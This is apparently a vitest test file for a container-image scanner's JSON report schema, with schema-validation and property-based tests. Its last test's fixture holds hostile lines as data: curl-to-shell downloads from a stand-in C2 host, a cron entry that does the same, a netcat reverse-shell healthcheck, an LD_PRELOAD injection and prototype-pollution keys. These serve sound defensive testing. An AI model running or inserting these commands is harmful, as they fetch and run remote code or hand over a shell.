import { Ajv2020 } from 'ajv/dist/2020.js';
import fc from 'fast-check';
import { beforeAll, expect, test } from 'vitest';
import { useGrammarFiles } from '../grammar-files.ts';
import { hostileReport } from '../testing/hostile-report.ts';
import { sampleReport } from '../testing/sample-report.ts';
import { reportOf } from '../testing/scene.ts';
import { reportJsonSchema } from './json-schema.ts';
import { safeJson } from './printable.ts';
import type { ImageReport, MultiReport } from './report.ts';

beforeAll(() => useGrammarFiles());

const validate = new Ajv2020({ strict: false, allErrors: true }).compile(reportJsonSchema());

/** The document as a consumer of `--format json` reads it. */
function read(value: unknown): unknown {
  return JSON.parse(safeJson(value, 2));
}

function expectValid(value: unknown): void {
  expect(validate(read(value)), JSON.stringify(validate.errors?.slice(0, 3))).toBe(true);
}

test('one report, and several in one document, satisfy the shipped schema', () => {
  const report = sampleReport();
  const several: MultiReport = {
    schemaVersion: report.schemaVersion,
    tool: report.tool,
    verdict: 'malicious',
    images: [report, sampleReport({ verdict: 'clear', findings: [] })],
    failures: [{ reference: 'registry.example/gone', code: 'NOT_FOUND', message: 'no such image' }],
  };
  expectValid(report);
  expectValid(several);
});

test.each([
  ['a verdict that is none', { verdict: 'fine' }],
  ['a field nobody knows', { surprise: true }],
  ['another version', { schemaVersion: '9.0' }],
  ['a number as a path', { gaps: [{ reason: 'limit', detail: 'x', path: 7 }] }],
])('the schema refuses %s', (_, change) => {
  expect(validate({ ...(read(sampleReport()) as ImageReport), ...change })).toBe(false);
});

test('no text of an image makes an invalid document, or one that reads differently', () => {
  fc.assert(
    fc.property(hostileReport, (report) => {
      expectValid(report);
      expect(read(report)).toEqual(report);
    }),
    { numRuns: 60 },
  );
});

test('what the pipeline makes satisfies it, with strings that are not well-formed too', async () => {
  const reports = [
    await reportOf({}),
    await reportOf({
      name: 'registry.example/a/b:c',
      entrypoint: ['/bin/sh', '-c', 'curl http://c2.invalid/x | sh \ud800 \u0000 \u202e'],
      env: ['A=\udfff', '__proto__=x', 'LD_PRELOAD=/tmp/x.so'],
      labels: { __proto__: 'x', constructor: '\u0000' },
      healthcheck: ['CMD-SHELL', 'nc -e /bin/sh 192.0.2.1 4444'],
      files: {
        '/run.sh': '#!/bin/sh\necho \u0000\uffff\n',
        '/etc/cron.d/x': '* * * * * root curl http://c2.invalid | sh\n',
        '/opt/bin': new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 0xff, 0xfe, 0x00]),
        '/gone': null,
      },
    }),
  ];
  for (const report of reports) expectValid(report);
});
